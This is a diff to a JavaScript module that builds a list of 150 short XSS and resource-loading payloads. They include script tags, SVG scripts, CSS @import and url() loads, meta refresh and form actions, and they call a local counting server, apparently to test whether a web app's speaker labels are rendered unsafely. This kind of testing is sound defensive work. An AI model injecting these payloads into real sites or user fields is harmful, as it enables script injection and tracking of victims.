@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // 150 ways to make a page run or load something. @n stands for the number of the case, which a script shows in a
-// dialog; @s for an address of our own server, //127.1:PORT/NUMBER, which counts who calls. The ways are short,
+// dialog; @s for an address of our own server, http://127.1:PORT/NUMBER, which counts who calls. The ways are short,
 // since a speaker's label has room for 80 characters.
 const scripts = String.raw`
 <script>alert(@n)</script>
@@ -14,7 +14,7 @@ const scripts = String.raw`
 <script type="text/javascript">alert(@n)</script>
 <svg><script>alert(@n)</script></svg>
 <svg><script href=@s></script></svg>
-<svg><script xlink:href=@s></script></svg>
+<svg><script xlink:href=@s />
 <script>fetch("@s")</script>
 <script>alert(@n)<!--</script>
 <<script>alert(@n)//<</script>
@@ -89,9 +89,9 @@ data:text/html,<script>alert(@n)</script>
 const styles = String.raw`
 <style>@import "@s";</style>
 <style>@import url(@s);</style>
-<style>*{background:url(@s)}</style>
-<style>*{list-style:url("@s")}</style>
-<style>*{cursor:url(@s),auto}</style>
+<style>p{background:url(@s)}</style>
+<style>li{list-style:url(@s)}</style>
+<style>p{cursor:url(@s),auto}</style>
 <svg><style>@import "@s"</style></svg>
 <p style=background:url(@s)>x
 <p style="background-image:url('@s')">x
@@ -110,7 +110,7 @@ const documents = String.raw`
 <meta http-equiv=refresh content="0;javascript:alert(@n)">
 <base href=@s>
 <base target=x@n>
-<form action=@s><input type=submit autofocus></form>
+<form action=@s><input type=submit>
 <form action=javascript:alert(@n)><button>x</button></form>
 <button formaction=javascript:alert(@n)>x</button>
 <iframe srcdoc="<script>alert(@n)</script>"></iframe>
@@ -166,4 +166,4 @@ const of_lines = (lines) => lines.split("\n").filter((line) => line !== "");
 export const payloads = [...[scripts, handlers, addresses, styles, documents, breakouts].flatMap(of_lines), ...encodings];
 if (payloads.length !== 150 || new Set(payloads).size !== 150) throw new Error(`${payloads.length} payloads, not 150`);
 
-export const fill = (payload, number, sink) => payload.replaceAll("@n", number).replaceAll("@s", `//${sink}/${number}`);
+export const fill = (payload, number, sink) => payload.replaceAll("@n", number).replaceAll("@s", `http://${sink}/${number}`);
